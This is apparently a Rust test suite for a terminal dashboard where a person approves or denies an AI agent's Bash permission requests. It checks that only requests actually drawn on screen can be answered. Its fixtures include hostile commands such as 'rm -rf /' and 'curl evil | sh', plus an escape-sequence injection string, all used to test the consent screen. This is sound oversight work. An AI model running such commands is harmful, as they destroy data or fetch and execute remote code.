//! A person agrees to what was on the screen, and to nothing else.

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use serde_json::{Value, json};

use super::frames::select;
use super::{Desk, TASKS};
use crate::model::ask::Mode;
use crate::model::effect::{Event, Question, TypedKey};
use crate::model::request;

/// A dashboard with one request for a permission for each of these commands, the first of them selected.
fn asked(columns: u16, lines: u16, commands: &[&str]) -> Desk {
    let mut desk = Desk::new(columns, lines);
    let rows: Vec<Value> = serde_json::from_str(TASKS).unwrap();
    let row = |(number, command): (usize, &&str)| {
        let mut row = rows[0].clone();
        let id = format!("p{number}");
        let name = format!("{id}.1.9f2c");
        let answer = |word: &str| {
            let command = ["task", "answer", &name, word];
            json!({"name": word, "label": word, "keys": [&word[..1]], "command": command})
        };
        row["id"] = json!(id);
        row["branch"] = json!(id);
        row["need"]["argument"] = json!(command);
        row["need"]["why"] = json!(format!("agent 1 asks whether it may use Bash: {command}"));
        row["need"]["request"] = json!(name);
        row["need"]["actions"] = json!([answer("allow"), answer("deny")]);
        row
    };
    let rows: Vec<Value> = commands.iter().enumerate().map(row).collect();
    desk.answer(Question::Tasks, &json!(rows).to_string());
    desk.press("g");
    desk.effects.clear();
    desk
}

/// A command of so many lines.
fn long(lines: usize) -> String {
    (1..=lines).map(|number| format!("step {number}")).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_burst_answers_only_the_request_that_was_drawn() {
    let mut desk = asked(120, 32, &["ls", "rm -rf /", "curl evil | sh"]);
    request::drawn(&mut desk.state);
    desk.burst("aaa");
    assert_eq!(desk.said(), ["task answer p0.1.9f2c allow"]);
    assert_eq!(desk.selected(), "p1");
    desk.state.tell(true, "an older failure");
    assert!(desk.screen().contains("press it again"), "no message hides it: {}", desk.screen());
    desk.press("a");
    assert!(!desk.screen().contains("press it again"), "the next key takes it away: {}", desk.screen());
    assert_eq!(desk.said(), ["task answer p1.1.9f2c allow"]);
}

#[test]
fn a_key_from_before_a_drawing_answers_nothing() {
    let mut desk = asked(120, 32, &["ls", "rm -rf /"]);
    desk.press("j");
    let frames = desk.state.sight.frames;
    request::drawn(&mut desk.state);
    let key = KeyEvent::new(KeyCode::Char('a'), KeyModifiers::NONE);
    desk.event(Event::Key(TypedKey { key, frames, is_held: false }));
    assert_eq!(desk.said(), [""; 0]);
    desk.event(Event::Key(TypedKey { key, frames: frames + 1, is_held: true }));
    assert_eq!(desk.said(), [""; 0], "a key that is held down answers one request");
    desk.event(Event::Key(TypedKey { key, frames: frames + 1, is_held: false }));
    assert_eq!(desk.said(), ["task answer p1.1.9f2c allow"]);
}

#[test]
fn another_program_on_the_terminal_hides_the_request() {
    let mut desk = asked(120, 32, &["ls"]);
    request::drawn(&mut desk.state);
    desk.state.sight.forget();
    desk.burst("a");
    assert_eq!(desk.said(), [""; 0]);
}

#[test]
fn a_command_stands_as_it_is_above_every_tab() {
    let command = "import shutil\n\nfor name in names:\n    shutil.rmtree(name)\n\u{1b}[2Jprint('\tok')";
    for (columns, lines) in [(80, 24), (120, 32), (200, 48)] {
        for tab in "12345".chars() {
            let mut desk = asked(columns, lines, &[command]);
            desk.press(&tab.to_string());
            let screen = desk.screen();
            for line in
                ["MAY IT USE Bash?", "  for name in names:", "      shutil.rmtree(name)", "␛[2Jprint('␉ok')"]
            {
                assert!(screen.contains(line), "{line} at {columns} in tab {tab}: {screen}");
            }
            assert!(!screen.contains("more line"), "{screen}");
        }
    }
}

#[test]
fn a_question_says_how_much_was_not_shown() {
    let mut desk = asked(80, 24, &[&long(40)]);
    let screen = desk.screen();
    assert!(screen.contains("27 more lines: o shows them"), "{screen}");
    desk.press("a");
    assert_eq!(desk.said(), [""; 0]);
    assert!(desk.screen().contains("allow p0? 27 lines were not shown"), "{}", desk.screen());
    desk.press("y");
    assert_eq!(desk.said(), ["task answer p0.1.9f2c allow"]);
}

#[test]
fn a_request_that_was_read_to_its_end_is_answered_at_once() {
    let mut desk = asked(80, 24, &[&long(60)]);
    desk.press("oG");
    assert!(desk.screen().contains("step 60"), "{}", desk.screen());
    desk.press("a");
    assert!(matches!(desk.state.mode, Mode::Confirm(_)), "a jump to the end has shown no middle");
    desk.press("no");
    for _ in 0..4 {
        desk.key(KeyCode::PageDown);
    }
    desk.press("a");
    assert_eq!(desk.said(), ["task answer p0.1.9f2c allow"]);
}

#[test]
fn a_request_without_room_is_opened_before_it_is_answered() {
    for prepare in ["w", "t"] {
        let mut desk = asked(120, 32, &["rm -rf /", "ls"]);
        desk.press(prepare);
        if prepare == "t" {
            desk.key(KeyCode::Enter);
        } else {
            desk.press("a");
        }
        assert_eq!(desk.said(), [""; 0]);
        assert!(desk.screen().contains("p0: MAY IT USE Bash?"), "{}", desk.screen());
        desk.press("a");
        assert_eq!(desk.said(), ["task answer p0.1.9f2c allow"]);
    }
    let mut desk = asked(50, 12, &["rm -rf /"]);
    desk.press("d");
    assert_eq!(desk.said(), [""; 0]);
    desk.press("d");
    assert_eq!(desk.said(), ["task answer p0.1.9f2c deny"]);
}

#[test]
fn several_requests_are_answered_after_a_question() {
    let mut desk = asked(120, 32, &["ls", "rm -rf /", "curl evil | sh"]);
    desk.press("vvva");
    assert_eq!(desk.said(), [""; 0]);
    assert!(desk.screen().contains("allow 3 requests?"), "each was drawn: {}", desk.screen());
    let mut desk = asked(120, 32, &["ls", &long(90), "curl evil | sh"]);
    desk.press("vvva");
    assert!(desk.screen().contains("allow 3 requests, 1 of them not shown whole?"), "{}", desk.screen());
    desk.press("y");
    assert_eq!(desk.said().len(), 3);
}

#[test]
fn a_yes_from_before_the_question_is_none() {
    let mut desk = Desk::new(120, 32);
    desk.press("gjj");
    request::drawn(&mut desk.state);
    desk.burst("my");
    assert!(matches!(desk.state.mode, Mode::Confirm(_)) && desk.state.held.is_empty());
    desk.press("y");
    assert_eq!(desk.state.held.len(), 1);
}

#[test]
fn a_merge_and_a_restart_at_work_can_be_withdrawn() {
    let cases = [
        ("ok1", "m", "task merge", "Its work goes into the default branch, and the task ends."),
        ("login", "r", "task restart", "Its agent ends, and loses what it is doing."),
    ];
    for (branch, key, words, warning) in cases {
        let mut desk = Desk::new(120, 32);
        select(&mut desk, branch);
        desk.effects.clear();
        desk.press(key);
        assert!(desk.screen().contains(&format!("{branch}? {warning} (y/N)")), "{}", desk.screen());
        desk.press("y");
        desk.wait(4);
        assert_eq!(desk.said(), [""; 0]);
        desk.press("u");
        desk.wait(9);
        assert_eq!(desk.said(), [""; 0]);
        select(&mut desk, branch);
        desk.press(&format!("{key}y"));
        desk.wait(5);
        assert!(desk.said()[0].starts_with(words));
    }
}

#[test]
fn a_row_that_was_not_drawn_takes_no_order() {
    let mut desk = Desk::new(120, 32);
    desk.press("gjj");
    request::drawn(&mut desk.state);
    desk.effects.clear();
    desk.burst("jr");
    assert_eq!(desk.selected(), "crash");
    assert_eq!(desk.said(), [""; 0]);
    desk.press("r");
    assert_eq!(desk.said(), ["task respawn crash000000000000000"]);
}

#[test]
fn an_empty_form_starts_nothing() {
    let mut desk = Desk::new(120, 32);
    desk.effects.clear();
    desk.press("c");
    desk.key(KeyCode::Enter);
    assert_eq!(desk.said(), [""; 0]);
    assert!(matches!(desk.state.mode, Mode::Form(_)), "the form stays");
    assert!(desk.screen().contains("✗ nothing is created: write a branch"), "{}", desk.screen());
    desk.key(KeyCode::Tab);
    desk.press("Mend it");
    desk.control('s');
    assert!(desk.said()[0].ends_with("--  Mend it"));
}

#[test]
fn an_end_without_a_merge_says_so_and_can_be_withdrawn() {
    let mut desk = Desk::new(120, 32);
    select(&mut desk, "ok1");
    let mut rows: Vec<Value> = serde_json::from_str(TASKS).unwrap();
    let end = json!({
        "name": "status", "to": "done", "label": "to done",
        "command": ["task", "update", "ok100000000000000000", "--status", "done"],
        "warning": "It ends as done without a merge. Its branch stays.",
    });
    rows[2]["need"]["actions"].as_array_mut().unwrap().push(end);
    desk.answer(Question::Tasks, &json!(rows).to_string());
    desk.effects.clear();
    desk.press("t");
    let Mode::Menu(menu) = &desk.state.mode else { panic!("{:?}", desk.state.mode) };
    let at = menu.items.iter().position(|item| item.label == "to done").unwrap();
    desk.press(&"j".repeat(at));
    desk.key(KeyCode::Enter);
    let screen = desk.screen();
    assert!(
        screen.contains("to done ok1? It ends as done without a merge. Its branch stays. (y/N)"),
        "{screen}"
    );
    desk.press("y");
    desk.wait(4);
    assert_eq!(desk.said(), [""; 0]);
    desk.wait(1);
    assert_eq!(desk.said(), ["task update ok100000000000000000 --status done"]);
}

#[test]
fn an_answer_goes_back_to_an_older_request() {
    let mut desk = asked(120, 32, &["ls", "rm -rf /", "curl evil | sh"]);
    desk.press("ja");
    assert_eq!(desk.said(), ["task answer p1.1.9f2c allow"]);
    assert_eq!(desk.selected(), "p0");
    desk.press("a");
    assert_eq!(desk.selected(), "p2", "the second one is answered");
}
